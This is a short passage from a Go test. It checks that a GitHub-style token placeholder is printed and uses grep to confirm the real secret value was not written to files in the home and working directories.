		if !strings.Contains(printed, "ghp_") {
			t.Error("the twin: no placeholder was printed")
		}
		for _, dir := range []string{y.Home, y.Dir, filepath.Dir(y.Home)} {
			if out, err := exec.Command("grep", "-rlF", "--devices=skip", w.value, dir).Output(); err == nil {
				t.Errorf("the value is in files: %s", out)
			}
		}
	})
}
